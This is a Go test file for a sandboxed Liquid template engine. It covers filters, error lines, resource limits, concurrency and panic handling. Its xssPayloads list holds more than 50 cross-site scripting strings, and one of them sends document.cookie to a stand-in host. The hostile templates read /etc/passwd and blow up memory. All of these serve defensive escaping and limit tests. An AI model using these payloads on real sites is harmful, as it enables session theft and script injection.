package safeliquid

import (
	"errors"
	"fmt"
	"strings"
	"sync"
	"testing"
	"time"
)

// mustRender compiles and renders src, failing the test on any error.
func mustRender(t *testing.T, e *Engine, src string, b map[string]any) string {
	t.Helper()
	tpl, err := e.Compile("test", src)
	if err != nil {
		t.Fatalf("Compile(%q): %v", src, err)
	}
	out, err := tpl.Render(b)
	if err != nil {
		t.Fatalf("Render(%q): %v", src, err)
	}
	return out
}

func TestCommonTemplates(t *testing.T) {
	e := New(Limits{})
	data := map[string]any{
		"option": map[string]any{"id": "a1", "label": "First choice", "price": 12.5, "tags": []any{"x", "y", "z"}, "empty": ""},
		"options": []any{
			map[string]any{"id": "a", "label": "Alpha", "kind": "fruit", "on": true},
			map[string]any{"id": "b", "label": "Beta", "kind": "veg", "on": false},
			map[string]any{"id": "c", "label": "Gamma", "kind": "fruit", "on": true},
			map[string]any{"id": "d", "label": "Delta", "kind": "nut"},
		},
		"message":       "Pick one",
		"minSelections": 1.0,
		"maxSelections": 2.0,
		"when":          "2024-03-05T14:30:00Z",
	}
	tests := []struct {
		name, src, want string
	}{
		{"upcase", `{{ option.label | upcase }}`, "FIRST CHOICE"},
		{"downcase", `{{ option.label | downcase }}`, "first choice"},
		{"capitalize", `{{ "hello world" | capitalize }}`, "Hello world"},
		{"default missing", `{{ option.missing | default: "n/a" }}`, "n/a"},
		{"default empty", `{{ option.empty | default: "n/a" }}`, "n/a"},
		{"default present", `{{ option.label | default: "n/a" }}`, "First choice"},
		{"size array", `{{ option.tags | size }}`, "3"},
		{"size string", `{{ option.label | size }}`, "12"},
		{"size dot", `{{ options.size }}`, "4"},
		{"truncate", `{{ option.label | truncate: 8 }}`, "First..."},
		{"truncate custom", `{{ option.label | truncate: 8, "…" }}`, "First c…"},
		{"truncate short", `{{ "abc" | truncate: 8 }}`, "abc"},
		{"truncatewords", `{{ "one two three four" | truncatewords: 2 }}`, "one two..."},
		{"date", `{{ when | date: "%Y-%m-%d %H:%M" }}`, "2024-03-05 14:30"},
		{"join", `{{ option.tags | join: ", " }}`, "x, y, z"},
		{"join default", `{{ option.tags | join }}`, "x y z"},
		{"map join", `{{ options | map: "id" | join: "" }}`, "abcd"},
		{"where value", `{% assign f = options | where: "kind", "fruit" %}{{ f | map: "label" | join: "," }}`, "Alpha,Gamma"},
		{"where truthy", `{{ options | where: "on" | map: "id" | join: "," }}`, "a,c"},
		{"if elsif else", `{% for o in options %}{% if o.kind == "fruit" %}F{% elsif o.kind == "veg" %}V{% else %}O{% endif %}{% endfor %}`, "FVFO"},
		{"if and/or", `{% if option.price > 10 and option.id == "a1" %}yes{% endif %}`, "yes"},
		{"contains", `{% if option.tags contains "y" %}has y{% endif %}`, "has y"},
		{"unless", `{% unless option.empty != "" %}empty{% endunless %}`, "empty"},
		{"unless else", `{% unless true %}a{% else %}b{% endunless %}`, "b"},
		{"case when", `{% case option.id %}{% when "zz" %}no{% when "a1", "a2" %}yes{% else %}else{% endcase %}`, "yes"},
		{"case else", `{% case option.id %}{% when "zz" %}no{% else %}else{% endcase %}`, "else"},
		{"for limit offset", `{% for o in options limit: 2 offset: 1 %}{{ o.id }}{% endfor %}`, "bc"},
		{"for reversed", `{% for o in options reversed %}{{ o.id }}{% endfor %}`, "dcba"},
		{"for limit offset reversed", `{% for o in options limit: 2 offset: 1 reversed %}{{ o.id }}{% endfor %}`, "cb"},
		{"forloop", `{% for o in options %}{{ forloop.index }}/{{ forloop.length }}{% if forloop.first %}F{% endif %}{% if forloop.last %}L{% endif %} {% endfor %}`, "1/4F 2/4 3/4 4/4L "},
		{"forloop index0 rindex", `{% for t in option.tags %}{{ forloop.index0 }}{{ forloop.rindex }}{% endfor %}`, "031221"},
		{"parentloop", `{% for a in (1..2) %}{% for b in (1..2) %}{{ forloop.parentloop.index }}{{ forloop.index }} {% endfor %}{% endfor %}`, "11 12 21 22 "},
		{"for else", `{% for x in option.nothing %}x{% else %}none{% endfor %}`, "none"},
		{"for range", `{% for i in (1..5) %}{{ i }}{% endfor %}`, "12345"},
		{"for range var", `{% assign n = 3 %}{% for i in (1..n) %}{{ i }}{% endfor %}`, "123"},
		{"break continue", `{% for i in (1..10) %}{% if i == 2 %}{% continue %}{% endif %}{% if i > 4 %}{% break %}{% endif %}{{ i }}{% endfor %}`, "134"},
		{"limit from data", `{% for o in options limit: maxSelections %}{{ o.id }}{% endfor %}`, "ab"},
		{"cycle", `{% for i in (1..4) %}{% cycle "odd", "even" %} {% endfor %}`, "odd even odd even "},
		{"assign", `{% assign n = option.tags | size | plus: 1 %}{{ n }}`, "4"},
		{"assign string", `{% assign greeting = "hi " | append: option.id %}{{ greeting }}`, "hi a1"},
		{"capture", `{% capture row %}{{ option.id }}:{{ option.label }}{% endcapture %}[{{ row }}]`, "[a1:First choice]"},
		{"math", `{{ 10 | minus: 3 | times: 2 | divided_by: 7 }} {{ 7 | modulo: 3 }} {{ 2.4 | round }} {{ 2.1 | ceil }} {{ 2.9 | floor }}`, "2 1 2 3 2"},
		{"at_least at_most", `{{ 3 | at_least: 5 }} {{ 3 | at_most: 1 }}`, "5 1"},
		{"replace remove", `{{ "a-b-c" | replace: "-", "+" }} {{ "a-b-c" | remove: "-" }} {{ "a-b-c" | replace_first: "-", "+" }}`, "a+b+c abc a+b-c"},
		{"split first last", `{% assign p = "x,y,z" | split: "," %}{{ p | first }}{{ p | last }}{{ p | size }}`, "xz3"},
		{"sort reverse uniq", `{{ "c,a,b,a" | split: "," | uniq | sort | reverse | join: "" }}`, "cba"},
		{"sort by key", `{{ options | sort: "label" | map: "id" | join: "" }}`, "abdc"},
		{"slice", `{{ "hello" | slice: 1, 3 }} {{ "hello" | slice: -2, 2 }} {{ option.tags | slice: 1, 2 | join: "" }}`, "ell lo yz"},
		{"strip", `[{{ "  x  " | strip }}][{{ "  x  " | lstrip }}][{{ "  x  " | rstrip }}]`, "[x][x  ][  x]"},
		{"prepend append", `{{ "b" | prepend: "a" | append: "c" }}`, "abc"},
		{"url_encode", `{{ "a b&c" | url_encode }}`, "a+b%26c"},
		{"json", `{{ option.tags | json }}`, `["x","y","z"]`},
		{"tablerow", `{% tablerow t in option.tags cols: 2 %}{{ t }}{% endtablerow %}`, `<tr class="row1"><td class="col1">x</td><td class="col2">y</td></tr><tr class="row2"><td class="col1">z</td></tr>`},
		{"whitespace control", "{%- if true -%}\n  x\n{%- endif -%}", "x"},
		{"comment raw", `{% comment %}hidden {{ x }}{% endcomment %}{% raw %}{{ kept }}{% endraw %}`, "{{ kept }}"},
		{"heading bindings", `{{ message }} ({{ minSelections }}–{{ maxSelections }})`, "Pick one (1–2)"},
		{"undefined is empty", `[{{ nope.deeper }}]`, "[]"},
		{"escape is idempotent on data", `{{ "a&b" | escape }}`, "a&amp;b"},
		{"compare escaped data", `{% assign k = "a&b" | escape %}{% if k == "a&amp;b" %}eq{% endif %}`, "eq"},
		{"divided_by int literal", `{{ 7 | divided_by: 2 }} {{ 7 | divided_by: 2.0 }}`, "3 3.5"},
		{"range from float data via floor", `{% assign m = maxSelections | floor %}{% for i in (1..m) %}{{ i }}{% endfor %}`, "12"},
		{"float prints like an int", `{{ minSelections }}`, "1"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			if got := mustRender(t, e, tc.src, data); got != tc.want {
				t.Errorf("got %q, want %q", got, tc.want)
			}
		})
	}
}

// xssPayloads are strings an agent (or anyone upstream of it) may put in
// option data. None may reach the output with a raw '<', '>' or quote.
var xssPayloads = []string{
	`<script>alert(1)</script>`,
	`<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
	`"><img src=x onerror=alert(1)>`,
	`'><svg onload=alert(1)>`,
	`<img src="x" onerror="fetch('//evil/'+document.cookie)">`,
	`javascript:alert(1)`,
	`JaVaScRiPt:alert(document.domain)`,
	`data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
	`</iframe><script>alert(1)</script>`,
	`</iframe><iframe src="javascript:alert(1)">`,
	`" onmouseover="alert(1)`,
	`' onfocus='alert(1)' autofocus='`,
	`" style="background:url(javascript:alert(1))`,
	`<a href="javascript:alert(1)">click</a>`,
	`<body onload=alert(1)>`,
	`<svg><script>alert(1)</script></svg>`,
	`<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
	`<iframe srcdoc="<script>alert(1)</script>">`,
	`<object data="javascript:alert(1)">`,
	`<embed src="javascript:alert(1)">`,
	`<form action="javascript:alert(1)"><input type=submit>`,
	`<button formaction="javascript:alert(1)">x</button>`,
	`<input onfocus=alert(1) autofocus>`,
	`<details open ontoggle=alert(1)>`,
	`<video><source onerror=alert(1)>`,
	`<audio src=x onerror=alert(1)>`,
	`<marquee onstart=alert(1)>`,
	`<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`,
	`<base href="//evil.example/">`,
	`<link rel=stylesheet href=//evil.example/x.css>`,
	`<style>@import '//evil.example/x.css';</style>`,
	`<div style="width:expression(alert(1))">`,
	`<!--<script>alert(1)//-->`,
	`<![CDATA[<script>alert(1)</script>]]>`,
	`<scr<script>ipt>alert(1)</scr</script>ipt>`,
	"<scr\x00ipt>alert(1)</script>",
	"\u003cscript\u003ealert(1)\u003c/script\u003e",
	"\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
	"<script\u2028>alert(1)</script>",
	`&lt;script&gt;alert(1)&lt;/script&gt;`,
	`&#60;script&#62;alert(1)&#60;/script&#62;`,
	`%3Cscript%3Ealert(1)%3C/script%3E`,
	`{{ '<script>alert(1)</script>' }}`,
	`{% raw %}<script>alert(1)</script>{% endraw %}`,
	`{{ option.label | replace: "&lt;", "<" }}`,
	`{% include '/etc/passwd' %}`,
	"`-alert(1)-`",
	`<img src=x:alert(alt) onerror=eval(src) alt=0>`,
	`<a href="&#106;avascript:alert(1)">x</a>`,
	`<svg><animate onbegin=alert(1) attributeName=x dur=1s>`,
	`<x onclick=alert(1)>click`,
	`"/><script>alert(1)</script><"`,
	`<template><script>alert(1)</script></template>`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
}

func TestXSSPayloadsAreEscaped(t *testing.T) {
	if len(xssPayloads) < 50 {
		t.Fatalf("only %d payloads", len(xssPayloads))
	}
	e := New(Limits{})
	templates := map[string]string{
		"text":      `<div>{{ option.label }}</div>`,
		"attribute": `<a title="{{ option.label }}" href="{{ option.url }}">{{ option.id }}</a>`,
		"filters":   `{{ option.label | upcase }}{{ option.label | truncate: 1000 }}{{ option.label | escape }}{{ option.label | escape_once }}{{ option.label | strip_html }}{{ option.label | json }}`,
		"assign":    `{% assign x = option.label | append: "!" %}{% capture c %}{{ x }}{% endcapture %}{{ c }}`,
		"loop":      `{% for kv in option %}{{ kv[0] }}={{ kv[1] }};{% endfor %}{% for t in option.tags %}{{ t }}{% endfor %}`,
		"join":      `{{ option.tags | join: "," }}{{ options | map: "label" | join }}`,
	}
	for tn, src := range templates {
		tpl, err := e.Compile(tn, src)
		if err != nil {
			t.Fatalf("%s: %v", tn, err)
		}
		for i, p := range xssPayloads {
			b := map[string]any{
				"option": map[string]any{
					"id": p, "label": p, "url": p, "tags": []any{p, p},
					// A hostile key: keys are not escaped in bindings, but a loop
					// over the map yields them escaped.
					p: p,
				},
				"options": []any{map[string]any{"label": p}},
			}
			out, err := tpl.Render(b)
			if err != nil {
				t.Fatalf("%s/payload %d: %v", tn, i, err)
			}
			// The only markup allowed is the template's own.
			rest := out
			for _, tag := range []string{`<div>`, `</div>`, `<a title="`, `" href="`, `">`, `</a>`} {
				if tn == "text" || tn == "attribute" {
					rest = strings.ReplaceAll(rest, tag, "")
				}
			}
			if strings.ContainsAny(rest, `<>"'`) && !(tn == "filters" && onlyJSONQuotes(rest)) {
				t.Errorf("%s/payload %d %q: raw markup survived: %q", tn, i, p, out)
			}
		}
	}
}

// onlyJSONQuotes reports whether the only raw specials in s are the double
// quotes json adds around strings.
func onlyJSONQuotes(s string) bool {
	return !strings.ContainsAny(s, `<>'`)
}

func TestEscape(t *testing.T) {
	in := map[string]any{
		"s": `<a href="x">&'`,
		"n": 1.5, "b": true, "nil": nil,
		"list":   []any{"<", map[string]any{"<k>": ">"}},
		"strs":   []string{"<"},
		"nested": map[string]string{"q": `"`},
	}
	got := Escape(in).(map[string]any)
	if got["s"] != "&lt;a href=&#34;x&#34;&gt;&amp;&#39;" {
		t.Errorf("s = %q", got["s"])
	}
	if got["n"] != 1.5 || got["b"] != true || got["nil"] != nil {
		t.Errorf("scalars changed: %v", got)
	}
	l := got["list"].([]any)
	if l[0] != "&lt;" || l[1].(map[string]any)["<k>"] != "&gt;" {
		t.Errorf("list = %#v", l)
	}
	if got["strs"].([]any)[0] != "&lt;" || got["nested"].(map[string]any)["q"] != "&#34;" {
		t.Errorf("typed containers = %#v %#v", got["strs"], got["nested"])
	}
	if in["s"] != `<a href="x">&'` {
		t.Error("Escape modified its input")
	}
	// A self-referencing map must not overflow the stack.
	loop := map[string]any{}
	loop["self"] = loop
	_ = Escape(loop)
}

func TestCompileErrorsCarryLine(t *testing.T) {
	e := New(Limits{})
	tests := []struct {
		name, src string
		line      int
		msg       string
	}{
		{"unclosed if", "a\nb\n{% if x %}\nc", 3, "unterminated"},
		{"bad expression", "line1\n{{ a | }}", 2, ""},
		{"unknown tag", "\n\n\n{% frobnicate %}", 4, "frobnicate"},
		{"unknown filter", "x\n{{ a | frobnicate }}", 2, `unknown filter "frobnicate"`},
		{"include", "x\ny\n{% include 'other' %}", 3, "not supported"},
		{"render", "{% render 'other' %}", 1, "not supported"},
		{"bad capture name", "\n{% capture 1x %}{% endcapture %}", 2, "capture needs"},
		{"huge literal range", "\n\n{% for i in (1..100000000) %}{% endfor %}", 3, "range"},
		{"too deep", strings.Repeat("{% if true %}\n", 25) + strings.Repeat("{% endif %}", 25), 21, "nested"},
		{"else not last", "{% if a %}\n{% else %}\n{% elsif b %}{% endif %}", 1, "else"},
		{"two for elses", "{% for a in b %}{% else %}{% else %}{% endfor %}", 1, ""},
		{"stray endfor", "a\n{% endfor %}", 2, ""},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			_, err := e.Compile("row", tc.src)
			var ce *CompileError
			if !errors.As(err, &ce) {
				t.Fatalf("err = %v (%T), want *CompileError", err, err)
			}
			if ce.Line != tc.line {
				t.Errorf("Line = %d, want %d (%v)", ce.Line, tc.line, ce)
			}
			if !strings.Contains(ce.Error(), tc.msg) {
				t.Errorf("error %q does not mention %q", ce.Error(), tc.msg)
			}
			if ce.Name != "row" {
				t.Errorf("Name = %q", ce.Name)
			}
		})
	}
	// Over MaxSourceBytes.
	_, err := e.Compile("big", strings.Repeat("x", MaxSourceBytes+1))
	var ce *CompileError
	if !errors.As(err, &ce) || !strings.Contains(ce.Msg, "32 KiB") {
		t.Errorf("oversized template: %v", err)
	}
}

func TestRenderErrorsAreReported(t *testing.T) {
	e := New(Limits{})
	tpl, err := e.Compile("t", "a\n{{ 1 | divided_by: 0 }}")
	if err != nil {
		t.Fatal(err)
	}
	_, err = tpl.Render(nil)
	var re *RenderError
	if !errors.As(err, &re) || re.Line != 2 {
		t.Fatalf("err = %v (%T), want *RenderError on line 2", err, err)
	}
}

// TestHostileTemplates: each template is refused at Compile or stopped by
// the bound named. Those bounds count work, so the same bound stops it on
// every machine, however slow or busy: the clock, the last guard, is raised
// here so that it cannot win even under -race on a loaded machine; the
// default engine is checked below, where any bound may stop it.
func TestHostileTemplates(t *testing.T) {
	e := New(Limits{MaxDuration: time.Hour})
	def := New(Limits{})
	big := strings.Repeat("x", 200_000)
	nested := strings.Repeat("{% if true %}", 500) + "x" + strings.Repeat("{% endif %}", 500)
	tests := []struct {
		name  string
		src   string
		bound string // "" means refused at Compile
	}{
		{"huge literal range", `{% for i in (1..20000000) %}{% endfor %}`, ""},
		{"huge range from data", `{% for i in (1..n) %}{% endfor %}`, "MaxIterations"},
		{"three nested 1..1000", `{% for a in (1..1000) %}{% for b in (1..1000) %}{% for c in (1..1000) %}{% endfor %}{% endfor %}{% endfor %}`, "MaxIterations"},
		{"nested loops over data", `{% for a in list %}{% for b in list %}{% for c in list %}{{ c }}{% endfor %}{% endfor %}{% endfor %}`, "MaxSteps"},
		{"assign append doubling", `{% assign s = "ab" %}{% for i in (1..64) %}{% assign s = s | append: s %}{% endfor %}{{ s | size }}`, "MaxStringBytes"},
		{"prepend doubling", `{% assign s = "ab" %}{% for i in (1..64) %}{% assign s = s | prepend: s %}{% endfor %}`, "MaxStringBytes"},
		{"capture doubling", `{% assign s = "ab" %}{% for i in (1..64) %}{% capture s %}{{ s }}{{ s }}{% endcapture %}{% endfor %}`, "MaxStringBytes"},
		{"recursion via capture", `{% capture x %}a{% endcapture %}{% for i in (1..100) %}{% capture x %}{{ x }}{{ x }}{{ x }}{% endcapture %}{% endfor %}`, "MaxStringBytes"},
		{"replace blowup", `{{ big | replace: "x", big }}`, "MaxStringBytes"},
		{"replace empty blowup", `{{ big | replace: "", "yyyyyyyy" }}`, "MaxStringBytes"},
		{"join blowup", `{{ list | join: big }}`, "MaxStringBytes"},
		{"split join doubling", `{% assign s = "abcd,efgh" %}{% for i in (1..64) %}{% assign p = s | split: "," %}{% assign s = p | concat: p | join: "," %}{% endfor %}`, "MaxStringBytes"},
		{"concat doubling", `{% assign a = big | split: "#" %}{% for i in (1..64) %}{% assign a = a | concat: a %}{% endfor %}`, "MaxTotalBytes"},
		{"range into filter", `{{ (1..n) | join: "," }}`, "MaxIterations"},
		{"range into sort", `{% assign r = (1..n) | sort %}`, "MaxIterations"},
		{"many big variables", strings.Repeat(`{% assign v = big | append: "x" %}`, 200), "MaxTotalBytes"},
		{"huge output", `{% for i in (1..100000) %}{{ big }}{% endfor %}`, "MaxOutputBytes"},
		{"huge output no loop", strings.Repeat(`{{ big }}`, 10), "MaxOutputBytes"},
		{"tablerow output", `{% tablerow i in (1..100000) %}{{ big }}{% endtablerow %}`, "MaxOutputBytes"},
		{"self include", `{% include 'self' %}`, ""},
		{"include file", `{% include '/etc/passwd' %}`, ""},
		{"include expression", `{% include {{ path }} %}`, ""},
		{"render tag", `{% render 'row', option: option %}`, ""},
		{"deep nesting", nested, ""},
		{"unknown filter", `{{ x | base64_decode }}`, ""},
		{"json of big", `{% assign a = big | split: "#" %}{% for i in (1..4) %}{% assign a = a | concat: a %}{% endfor %}{{ a | json }}`, "MaxStringBytes"},
		{"empty loop time", `{% for i in (1..100000) %}{% for j in (1..n) %}{% endfor %}{% endfor %}`, "MaxIterations"},
		{"many tags per iteration", `{% for i in (1..50000) %}` + strings.Repeat(`{% if i %}{% endif %}`, 100) + `{% endfor %}`, "MaxSteps"},
		{"filters on big strings", `{% for i in (1..50000) %}{% assign n = big | size %}{% endfor %}`, "MaxSteps"},
	}
	bindings := map[string]any{
		"n":    100000000,
		"big":  big,
		"list": anyList(200),
		"path": "/etc/passwd",
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			done := make(chan struct{})
			go func() {
				defer close(done)
				tpl, err := e.Compile(tc.name, tc.src)
				if tc.bound == "" {
					var ce *CompileError
					if !errors.As(err, &ce) {
						t.Errorf("Compile err = %v, want *CompileError", err)
					}
					return
				}
				if err != nil {
					t.Errorf("Compile: %v", err)
					return
				}
				out, err := tpl.Render(bindings)
				var le *LimitError
				if !errors.As(err, &le) {
					t.Errorf("Render err = %v (%T), want *LimitError %s (output %d bytes)", err, err, tc.bound, len(out))
					return
				}
				if le.Bound != tc.bound {
					t.Errorf("stopped by %s (%v), want %s", le.Bound, le, tc.bound)
				}
				if out != "" {
					t.Errorf("output returned with a limit error: %d bytes", len(out))
				}
				if _, err := def.MustCompile(tc.name, tc.src).Render(bindings); !errors.As(err, &le) {
					t.Errorf("default engine: err = %v, want *LimitError", err)
				}
			}()
			select {
			case <-done:
			case <-time.After(30 * time.Second): // safety net only: fail rather than hang
				t.Fatal("render did not stop")
			}
		})
	}
}

func anyList(n int) []any {
	l := make([]any, n)
	for i := range l {
		l[i] = float64(i)
	}
	return l
}

func TestDurationBound(t *testing.T) {
	// A tiny budget stops an otherwise legal loop by the clock.
	e := New(Limits{MaxDuration: time.Nanosecond, MaxIterations: 1 << 30})
	tpl := e.MustCompile("slow", `{% for i in list %}{% for j in list %}{{ i | plus: j }}{% endfor %}{% endfor %}`)
	_, err := tpl.Render(map[string]any{"list": anyList(1000)})
	var le *LimitError
	if !errors.As(err, &le) || le.Bound != "MaxDuration" {
		t.Fatalf("err = %v, want MaxDuration", err)
	}
}

// TestStepsAreCounted: a render's steps are counted exactly (one per tag,
// loop iteration, filter call and write, one more per 256 bytes a filter is
// given), so MaxSteps stops a template at the same point on every machine.
func TestStepsAreCounted(t *testing.T) {
	t.Parallel()
	big := strings.Repeat("x", 1000) // 3 more steps per filter call
	cases := []struct {
		src   string
		steps int
	}{
		{`{% for i in list %}{{ i }}{% endfor %}`, 1 + 10*2},                        // for; each iteration and its write
		{`{% for i in list %}{% endfor %}tail`, 1 + 10 + 1},                         // for; iterations; the text
		{`{% assign x = 1 | plus: 2 %}{% if x > 2 %}y{% endif %}`, 4},               // assign, plus, if, write
		{`{{ big | size }}{{ "a" | append: "b" | upcase }}`, 1 + 3 + 1 + 1 + 1 + 1}, // size (1+3), write, append, upcase, write
	}
	for _, c := range cases {
		for _, limit := range []int{c.steps, c.steps - 1} {
			tpl := New(Limits{MaxSteps: limit}).MustCompile("t", c.src)
			_, err := tpl.Render(map[string]any{"list": anyList(10), "big": big})
			var le *LimitError
			switch stopped := errors.As(err, &le) && le.Bound == "MaxSteps"; {
			case limit == c.steps && err != nil:
				t.Errorf("%s with MaxSteps %d: %v, want it rendered", c.src, limit, err)
			case limit < c.steps && !stopped:
				t.Errorf("%s with MaxSteps %d: err = %v, want MaxSteps", c.src, limit, err)
			}
		}
	}
}

// TestBudget: renders charged to one Budget share its steps; each takes
// what it used, and the one that runs out stops with the bound "Budget".
func TestBudget(t *testing.T) {
	t.Parallel()
	tpl := New(Limits{}).MustCompile("row", `{% for i in list %}{{ i }}{% endfor %}`) // 21 steps over 10 items
	b := Budget{Steps: 50}
	bindings := map[string]any{"list": anyList(10)}
	for i, want := range []int{29, 8} {
		if _, err := tpl.RenderBudget(&b, bindings); err != nil || b.Steps != want {
			t.Fatalf("render %d: %v, %d steps left, want %d", i, err, b.Steps, want)
		}
	}
	_, err := tpl.RenderBudget(&b, bindings)
	var le *LimitError
	if !errors.As(err, &le) || le.Bound != "Budget" || le.Limit != 8 || b.Steps != 0 {
		t.Fatalf("third render: %v, %d left; want Budget with limit 8, 0 left", err, b.Steps)
	}
	// A render outside the budget still has its own MaxSteps.
	if _, err := tpl.Render(bindings); err != nil {
		t.Fatalf("Render: %v", err)
	}
}

func TestLimitsAreConfigurable(t *testing.T) {
	e := New(Limits{MaxOutputBytes: 10, MaxIterations: 5, MaxStringBytes: 8, MaxDepth: 2})
	cases := []struct{ src, bound string }{
		{`{{ "12345678901" }}`, "MaxOutputBytes"},
		{`{% for i in (1..6) %}{% endfor %}`, ""}, // literal range over MaxIterations: Compile
		{`{% for i in list %}{% endfor %}`, "MaxIterations"},
		{`{{ "12345" | append: "6789" }}`, "MaxStringBytes"},
		{`{% if a %}{% if b %}{% if c %}{% endif %}{% endif %}{% endif %}`, ""},
	}
	for _, c := range cases {
		tpl, err := e.Compile("t", c.src)
		if c.bound == "" {
			if err == nil {
				t.Errorf("%s: compiled, want CompileError", c.src)
			}
			continue
		}
		if err != nil {
			t.Fatalf("%s: %v", c.src, err)
		}
		_, err = tpl.Render(map[string]any{"list": anyList(6)})
		var le *LimitError
		if !errors.As(err, &le) || le.Bound != c.bound {
			t.Errorf("%s: err = %v, want %s", c.src, err, c.bound)
		}
	}
	// Just under every bound renders.
	out := mustRender(t, e, `{% for i in list %}{{ i }}{% endfor %}`, map[string]any{"list": anyList(5)})
	if out != "01234" {
		t.Errorf("out = %q", out)
	}
}

func TestStateDoesNotLeakBetweenRenders(t *testing.T) {
	e := New(Limits{MaxIterations: 100})
	tpl := e.MustCompile("t", `{% for i in list %}{% endfor %}ok`)
	// Each render may use up to the whole budget, however many came before.
	for i := 0; i < 50; i++ {
		out, err := tpl.Render(map[string]any{"list": anyList(100)})
		if err != nil || out != "ok" {
			t.Fatalf("render %d: %q %v", i, out, err)
		}
	}
	// A failed render does not poison the next one.
	if _, err := tpl.Render(map[string]any{"list": anyList(101)}); err == nil {
		t.Fatal("expected a limit error")
	}
	if out, err := tpl.Render(map[string]any{"list": anyList(1)}); err != nil || out != "ok" {
		t.Fatalf("after failure: %q %v", out, err)
	}
	// Assignments do not leak either.
	tpl2 := e.MustCompile("t2", `{{ x }}{% assign x = "set" %}`)
	for i := 0; i < 3; i++ {
		if out, _ := tpl2.Render(nil); out != "" {
			t.Fatalf("assign leaked: %q", out)
		}
	}
}

func TestConcurrentRenders(t *testing.T) {
	e := New(Limits{MaxIterations: 1000})
	row := e.MustCompile("row", typicalRow)
	hostile := e.MustCompile("hostile", `{% for i in list %}{% for j in list %}{% endfor %}{% endfor %}`)
	var wg sync.WaitGroup
	for g := 0; g < 8; g++ {
		wg.Add(1)
		go func(g int) {
			defer wg.Done()
			for i := 0; i < 200; i++ {
				opt := option(g*1000 + i)
				want := fmt.Sprintf(`data-id="opt-%d"`, g*1000+i)
				out, err := row.Render(map[string]any{"option": opt})
				if err != nil || !strings.Contains(out, want) {
					t.Errorf("row render: %v %q", err, out)
					return
				}
				// Interleave renders that exhaust their own budget: each must
				// fail alone, without affecting the row renders.
				if i%10 == 0 {
					_, err := hostile.Render(map[string]any{"list": anyList(100)})
					var le *LimitError
					if !errors.As(err, &le) || le.Bound != "MaxIterations" {
						t.Errorf("hostile: %v", err)
						return
					}
				}
			}
		}(g)
	}
	wg.Wait()
}

// TestPanicsAreRecovered: constructs that used to panic inside the library
// compile, and render either their output or a clear error of their own
// (never a recovered panic, never an empty pass).
func TestPanicsAreRecovered(t *testing.T) {
	e := New(Limits{})
	cases := []struct {
		src     string
		want    string // the output, when the render succeeds
		wantErr string // a substring of the error, when it fails
	}{
		// Spoofing forloop used to panic in the library's cycle tag.
		{src: `{% assign forloop = 1 %}{% cycle "a", "b" %}`, wantErr: "cycle must be inside a for loop"},
		{src: `{% for i in (1..2) %}{% assign forloop = "x" %}{% cycle "a" %}{% endfor %}`, wantErr: "cycle must be inside a for loop"},
		{src: `{{ "abc" | slice: 99, 99 }}{{ "abc" | truncate: -5 }}{{ "abc" | truncatewords: -1 }}`, want: "...abc"},
		{src: `{{ (5..1) | join }}{% for i in (5..1) %}x{% endfor %}`, want: ""},
		{src: `{% break %}`, wantErr: "break outside a for loop"},
	}
	for _, c := range cases {
		tpl, err := e.Compile("p", c.src)
		if err != nil {
			t.Errorf("%s: compile: %v", c.src, err)
			continue
		}
		out, err := tpl.Render(nil)
		switch {
		case c.wantErr == "" && err != nil:
			t.Errorf("%s: render: %v", c.src, err)
		case c.wantErr == "" && out != c.want:
			t.Errorf("%s: rendered %q, want %q", c.src, out, c.want)
		case c.wantErr != "" && (err == nil || !strings.Contains(err.Error(), c.wantErr)):
			t.Errorf("%s: render error %v, want one saying %q", c.src, err, c.wantErr)
		case err != nil && strings.Contains(err.Error(), "internal error"):
			t.Errorf("%s: a recovered panic, not an error of its own: %v", c.src, err)
		}
	}
}

// TestPanicMessage: a panic inside the library (sort_natural over a list
// holding null) is an error of one line, without the goroutine's stack.
func TestPanicMessage(t *testing.T) {
	e := New(Limits{})
	tpl := e.MustCompile("rowTemplate", `{{ option.tags | sort_natural }}`)
	_, err := tpl.Render(map[string]any{"option": map[string]any{"tags": []any{"a", nil}}})
	if err == nil {
		t.Fatal("no error")
	}
	if msg := err.Error(); strings.Contains(msg, "\n") || strings.Contains(msg, "goroutine") || !strings.Contains(msg, "internal error while rendering") {
		t.Errorf("error %q", msg)
	}
}
